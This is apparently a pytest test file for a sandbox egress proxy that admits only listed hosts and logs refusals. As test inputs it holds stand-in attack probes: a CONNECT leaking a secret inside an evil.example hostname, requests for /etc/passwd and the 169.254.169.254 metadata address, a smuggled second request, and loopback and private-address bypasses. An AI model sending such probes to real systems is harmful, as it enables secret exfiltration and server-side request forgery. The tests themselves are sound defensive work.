"""The way out: allowed hosts are reached, everything else is refused and told."""

from __future__ import annotations

import http.client
import json
import socket
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from sandbox_job import wait_until

from pytest_mlebench.sandbox.egress import Egress

LISTED = "it is not on the list of --mle-network"


class Echo(BaseHTTPRequestHandler):
    """Tell what arrived."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        chunked = self.headers.get("Transfer-Encoding") == "chunked"
        length = int(self.headers["Content-Length"] or 0)
        body = self._chunks() if chunked else self.rfile.read(length)
        answer = {"path": self.path, "headers": dict(self.headers), "body": body.decode()}
        self.server.seen.append(answer)  # type: ignore[attr-defined]  # ours
        content = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_GET

    def _chunks(self) -> bytes:
        body = b""
        while size := int(self.rfile.readline(), 16):
            body += self.rfile.read(size)
            self.rfile.readline()
        self.rfile.readline()
        return body

    def log_message(self, *_: object) -> None:
        """Be silent."""


@pytest.fixture
def server() -> Iterator[Any]:
    """A web server on this machine."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    server.seen = []  # type: ignore[attr-defined]  # for the tests to look at
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


class Way:
    """A proxy, and what an agent does with it."""

    def __init__(self, egress: Egress, folder: Path) -> None:
        self.egress = egress
        self.folder = folder
        listener = socket.create_server(("127.0.0.1", 0))
        self.port = listener.getsockname()[1]
        egress.serve(listener)

    def fetch(
        self, url: str, method: str = "GET", body: Any = None, headers: dict[str, str] | None = None
    ) -> tuple[int, str]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        connection.request(method, url, body, headers or {}, encode_chunked=False)
        response = connection.getresponse()
        return response.status, response.read().decode()

    def say(self, text: bytes) -> bytes:
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as connection:
            connection.sendall(text)
            connection.shutdown(socket.SHUT_WR)
            answer = b""
            while piece := connection.recv(65536):
                answer += piece
        return answer

    def notes(self) -> list[dict[str, Any]]:
        lines = (self.folder / "egress.jsonl").read_text().splitlines()
        return [json.loads(line) for line in lines]


Open = Callable[..., Way]


def own_address() -> str:
    """Return an address under which this machine is known to others."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try:
            asking.connect(("198.51.100.1", 9))  # sends nothing: the kernel picks our address
        except OSError:
            pytest.skip("this machine has no address but its loopback's")
        return str(asking.getsockname()[0])


@pytest.fixture
def way(tmp_path: Path) -> Iterator[Open]:
    """A factory of proxies whose names lead where the test says."""
    opened: list[Egress] = []

    def open_way(policy: str, **names: str) -> Way:
        async def resolve(host: str, port: int) -> list[str]:
            asked.append(host)
            return [names[host.replace(".", "_")]]

        asked: list[str] = []
        egress = Egress(policy, tmp_path, resolve=resolve if names else None)
        opened.append(egress.__enter__())
        result = Way(egress, tmp_path)
        result.asked = asked  # type: ignore[attr-defined]  # for one test
        return result

    yield open_way
    for egress in opened:
        egress.__exit__()


def test_a_secret_in_the_name_of_a_host_is_not_written_down(tmp_path: Path) -> None:
    with Egress("allow:allowed.example", tmp_path, secrets=["Sk-S3cret"]) as egress:
        out = Way(egress, tmp_path)
        out.say(b"CONNECT Sk-S3cret.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
        (note,) = out.notes()
        summary = egress.summary()
    assert note["host"] == "***.evil.example"
    assert summary["refused_hosts"] == {"***.evil.example:443": 1}


def test_a_listed_host_is_reached_and_told_what_was_asked(way: Open, server: Any) -> None:
    port = server.server_port
    out = way(f"allow:host.docker.internal:{port}")
    status, text = out.fetch(f"http://host.docker.internal:{port}/a?b=c", headers={"X-Key": "k"})
    assert status == 200
    answer = json.loads(text)
    assert answer["path"] == "/a?b=c"
    assert answer["headers"]["Host"] == f"host.docker.internal:{port}"
    assert answer["headers"]["X-Key"] == "k"
    assert answer["headers"]["Connection"] == "close"


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_goes_out_whole(way: Open, server: Any, chunked: bool) -> None:
    out = way(f"allow:127.0.0.1:{server.server_port}")
    body = "x" * 300_000
    sent = iter([b"100000\r\n" + b"x" * 0x100000 + b"\r\n", b"0\r\n\r\n"]) if chunked else body
    headers = {"Transfer-Encoding": "chunked"} if chunked else {}
    status, text = out.fetch(f"http://127.0.0.1:{server.server_port}/", "POST", sent, headers)
    assert status == 200
    assert len(json.loads(text)["body"]) == (0x100000 if chunked else 300_000)


def test_a_tunnel_carries_both_ways(way: Open, server: Any) -> None:
    out = way(f"allow:host.docker.internal:{server.server_port}")
    connection = http.client.HTTPConnection("127.0.0.1", out.port, timeout=10)
    connection.set_tunnel("host.docker.internal", server.server_port)
    for number in range(2):  # what is inside a tunnel is no business of the proxy
        connection.request("GET", f"/{number}")
        assert json.loads(connection.getresponse().read())["path"] == f"/{number}"
    connection.close()


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/",
        "http://localhost:{port}/",
        "http://evil.example/",
        "http://allowed.example.evil.example/",
        "http://allowed.example:8080/",
        "http://[::1]:{port}/",
        "http://user@allowed.example/",
        "ftp://allowed.example/",
        "/etc/passwd",
    ],
)
def test_everything_else_is_refused(way: Open, server: Any, url: str) -> None:
    out = way("allow:allowed.example")
    status, _ = out.fetch(url.format(port=server.server_port))
    assert status in (400, 403)
    assert out.egress.summary()["refused"] == 1
    assert out.notes()[0]["verdict"] == "refused"
    assert server.seen == []


def test_a_refused_tunnel_is_told_with_its_reason(way: Open) -> None:
    out = way("allow:allowed.example")
    answer = out.say(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
    assert answer.endswith(f"evil.example:443 is refused: {LISTED}\n".encode())
    (note,) = out.notes()
    assert {key: note[key] for key in ("method", "host", "port", "verdict", "why")} == {
        "method": "CONNECT",
        "host": "evil.example",
        "port": 443,
        "verdict": "refused",
        "why": LISTED,
    }
    assert out.egress.summary()["refused_hosts"] == {"evil.example:443": 1}


def test_a_name_that_is_not_listed_is_not_even_looked_up(way: Open) -> None:
    out = way("allow:allowed.example", secret_evil_example="127.0.0.1")
    assert out.fetch("http://secret.evil.example/")[0] == 403
    assert out.asked == []  # type: ignore[attr-defined]  # set by the fixture


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "169.254.169.254", "0.0.0.0", "::1", "::ffff:127.0.0.1", "fe80::1"]
)
def test_a_listed_name_must_not_lead_to_this_machine(way: Open, server: Any, address: str) -> None:
    out = way(f"allow:allowed.example:{server.server_port}", allowed_example=address)
    status, text = out.fetch(f"http://allowed.example:{server.server_port}/")
    assert (status, server.seen) == (403, [])
    assert "its name leads to an address that is not public" in text


def test_nor_to_an_address_under_which_others_reach_this_machine(way: Open) -> None:
    with ThreadingHTTPServer((own_address(), 0), Echo) as here:
        port = here.server_port
        out = way(f"allow:model.example:{port}", model_example=str(here.server_address[0]))
        status, text = out.fetch(f"http://model.example:{port}/")
    assert status == 403
    assert "its name leads to this machine, whose services are listed as host.docker.intern" in text


def test_an_address_of_this_machine_is_reached_where_it_is_listed_itself(way: Open) -> None:
    with ThreadingHTTPServer((own_address(), 0), Echo) as here:
        here.seen = []  # type: ignore[attr-defined]  # what Echo writes to
        threading.Thread(target=here.serve_forever, daemon=True).start()
        listed = f"{here.server_address[0]!s}:{here.server_port}"
        status, _ = way(f"allow:{listed}").fetch(f"http://{listed}/")
        here.shutdown()
    assert status == 200


def test_a_name_that_cannot_be_a_name_is_not_reached(way: Open) -> None:
    out = way("allow:*.example")
    status, text = out.fetch(f"http://{'x' * 64}.example/")
    assert (status, "no such host" in text) == (502, True)


@pytest.mark.parametrize("address", ["10.1.2.3", "192.168.1.1", "172.17.0.1", "127.0.0.1"])
def test_a_name_below_a_wildcard_must_lead_to_a_public_address(way: Open, address: str) -> None:
    out = way("allow:*.example", a_example=address)
    assert out.fetch("http://a.example/")[0] == 403


def test_a_second_request_on_a_connection_does_not_slip_out(way: Open, server: Any) -> None:
    port = server.server_port
    out = way(f"allow:127.0.0.1:{port}")
    first = f"GET http://127.0.0.1:{port}/1 HTTP/1.1\r\nHost: other\r\n\r\n"
    second = "GET /2 HTTP/1.1\r\nHost: other\r\n\r\n"
    out.say((first + second).encode())
    assert [one["path"] for one in server.seen] == ["/1"]
    assert server.seen[0]["headers"]["Host"] == f"127.0.0.1:{port}"


def test_a_listed_host_that_does_not_answer_is_told_apart(way: Open) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    out = way(f"allow:127.0.0.1:{port}")
    status, text = out.fetch(f"http://127.0.0.1:{port}/")
    assert status == 502
    assert f"127.0.0.1:{port} cannot be reached: " in text
    assert out.egress.summary()["failed"] == 1


def test_traffic_is_counted(way: Open, server: Any) -> None:
    port = server.server_port
    out = way(f"allow:127.0.0.1:{port}")
    out.fetch(f"http://127.0.0.1:{port}/", "POST", "12345")
    assert wait_until(lambda: out.egress.summary()["allowed"])
    (note,) = out.notes()
    assert (note["verdict"], note["bytes_out"]) == ("allowed", 5)
    assert note["bytes_in"] > 50
    summary = out.egress.summary()
    assert (summary["allowed"], summary["bytes_out"]) == (1, 5)


def test_an_open_connection_does_not_hold_up_the_end(way: Open, server: Any) -> None:
    out = way(f"allow:127.0.0.1:{server.server_port}")
    with socket.create_connection(("127.0.0.1", out.port), timeout=10) as connection:
        connection.sendall(f"CONNECT 127.0.0.1:{server.server_port} HTTP/1.0\r\n\r\n".encode())
        assert connection.recv(100).startswith(b"HTTP/1.1 200")
